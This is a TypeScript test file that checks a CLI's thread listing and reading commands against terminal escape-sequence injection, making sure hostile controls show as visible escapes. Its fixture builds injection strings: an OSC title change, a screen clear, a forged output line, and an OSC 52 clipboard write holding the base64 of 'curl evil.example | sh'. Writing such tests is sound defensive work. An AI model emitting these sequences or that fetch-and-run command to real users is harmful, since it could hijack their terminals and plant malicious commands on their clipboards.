// Issue 51 (finding 3), a home's texts as escape sequences: a thread's name, first message,
// messages, reasoning, commands and outputs, turn ids and cwd reached the terminal raw through
// `threads`, `read`, `items`, `turns` (an OSC title, a screen clear, an OSC 52 clipboard write, a C1
// CSI), and a newline in a name forged a line of the listing. The readable output now shows each
// control as its escape (`terminalText`: `\e`, `\n`, `\x9b`, `\u202e`); `--json` is unchanged.
import { expect } from 'chai';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as nodePath from 'node:path';
import { ENGINE_CLI_PATH } from '../compat/engineCli.js';
import { writeSynthThread } from '../fixtures/synthHome.js';
import { useTempDir } from '../fixtures/tempDir.js';
import { newThread } from '../projections/synth.js';
import { reportArea } from './areaSummary.js';

/** What a terminal acts on: every C0 control but the layout's newline, DEL, C1 (U+009B is CSI), the bidi overrides. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/g;
const clipboard = Buffer.from('curl evil.example | sh').toString('base64');
/** Every sequence the finding named, in one text: OSC title, screen clear, OSC 52, C1 CSI, CR, a forged line, BEL, a bidi override. */
const hostile = (what: string): string =>
  `${what}\u001b]0;OWNED\u0007\u001b[2J\u001b]52;c;${clipboard}\u0007\u009b31m\r\nFORGED ${what}\u0007\u202eend`;

const figures = { commands: 0, rawControls: 0, forgedLines: 0, escapesShown: 0 };

describe('reliability · terminal output (escape sequences in a home)', function () {
  this.timeout(240_000);
  const tmp = useTempDir('terminal-output-');
  const t = newThread(5);
  let home: string;
  let turnId: string;

  before(async () => {
    home = nodePath.join(tmp(), 'home');
    const path = await writeSynthThread(home, t, 2);
    const json = (s: string): string => JSON.stringify(s).slice(1, -1);
    const plainTurn = `turn-${t.threadId.slice(0, 8)}-1`;
    turnId = hostile('turn');
    const lines = fs
      .readFileSync(path, 'utf8')
      .split('\n')
      .filter((l) => l !== '')
      .map((l) => {
        const row = JSON.parse(l) as { ordinal: number; type: string; payload: { type?: string } };
        // The world state line's place holds a command with its output.
        if (row.type === 'world_state' && row.ordinal < 10)
          return JSON.stringify({
            timestamp: '2026-11-21T14:00:03.000Z',
            ordinal: row.ordinal,
            type: 'event_msg',
            payload: {
              type: 'item_completed',
              thread_id: t.threadId,
              turn_id: plainTurn,
              item: {
                type: 'CommandExecution',
                id: 'call_hostile',
                command: ['/bin/echo', hostile('command')],
                cwd: 'file:///work',
                parsed_cmd: [],
                source: 'unified_exec_startup',
                status: 'completed',
                aggregated_output: hostile('output'),
                exit_code: 0,
                duration: { secs: 0, nanos: 1_000_000 },
              },
            },
          });
        return l;
      })
      .join('\n')
      .replaceAll('"hello 4"', `"${json(hostile('preview'))}"`)
      .replaceAll('"answer 7"', `"${json(hostile('answer'))}"`)
      .replaceAll('["hm"]', `["${json(hostile('reasoning'))}"]`)
      .replaceAll('"cwd":"/work"', `"cwd":"${json(hostile('/cwd'))}"`)
      .replaceAll(`"${plainTurn}"`, `"${json(turnId)}"`);
    // And a line that is not JSON, whose quarantine reason quotes it (the read commands' warning on stderr).
    fs.writeFileSync(path, `${lines}\n${hostile('not JSON')}\n`);
    fs.writeFileSync(
      nodePath.join(home, 'session_index.jsonl'),
      `${JSON.stringify({ id: t.threadId, thread_name: hostile('name'), updated_at: '2026-11-21T14:10:00Z' })}\n`,
    );
  });
  after(() => reportArea('terminal output', figures));

  const commands = (): ReadonlyArray<ReadonlyArray<string>> => [
    ['threads'],
    ['threads', '--search', 'preview'],
    ['read', t.threadId],
    ['items', t.threadId],
    ['items', t.threadId, '--turn', turnId, '--limit', '1'],
    ['turns', t.threadId],
    ['turns', t.threadId, '--view', 'full'],
    ['search', 'FORGED'],
    ['search', 'FORGED', '--thread', t.threadId],
    ['tokens', '--by', 'cwd'],
    ['tokens', '--by', 'turn'],
  ];

  it('threads, read, items, turns (and search, tokens): no raw control byte in stdout or stderr but the layout newlines, no forged line, each escape shown', () => {
    const failures: string[] = [];
    for (const args of commands()) {
      const r = spawnSync(process.execPath, [ENGINE_CLI_PATH, ...args, '--codex-home', home], { encoding: 'utf8' });
      figures.commands += 1;
      expect(r.status, `${args.join(' ')}: ${r.stderr.slice(0, 300)}`).to.equal(0);
      const raw = [...(r.stdout.match(RAW_CONTROL) ?? []), ...(r.stderr.match(RAW_CONTROL) ?? [])];
      figures.rawControls += raw.length;
      const forged = r.stdout.split('\n').filter((l) => l.startsWith('FORGED'));
      figures.forgedLines += forged.length;
      if (r.stdout.includes('\\e]52;c;')) figures.escapesShown += 1;
      if (raw.length > 0 || forged.length > 0)
        failures.push(
          `${JSON.stringify(args.map((a) => (a === t.threadId ? '<thread>' : a)))}: ${raw.length} raw controls, ${forged.length} forged lines`,
        );
    }
    expect(failures).to.deep.equal([]);
    expect(figures.escapesShown, 'commands showing the OSC 52 write as text').to.equal(commands().length);
  });

  it('--json is unchanged: the texts come back whole (JSON escapes their C0 controls)', () => {
    const r = spawnSync(process.execPath, [ENGINE_CLI_PATH, 'read', t.threadId, '--codex-home', home, '--json'], {
      encoding: 'utf8',
    });
    expect(r.status, r.stderr).to.equal(0);
    // JSON escapes C0 (not C1 nor the bidi marks, which a JSON reader takes as they are).
    expect(r.stdout.trimEnd().match(/[\u0000-\u001f]/g) ?? []).to.deep.equal([]);
    const thread = JSON.parse(r.stdout) as { name: string; turns: Array<{ id: string }> };
    expect(thread.name).to.equal(hostile('name'));
    expect(thread.turns[0]!.id).to.equal(turnId);
  });
});
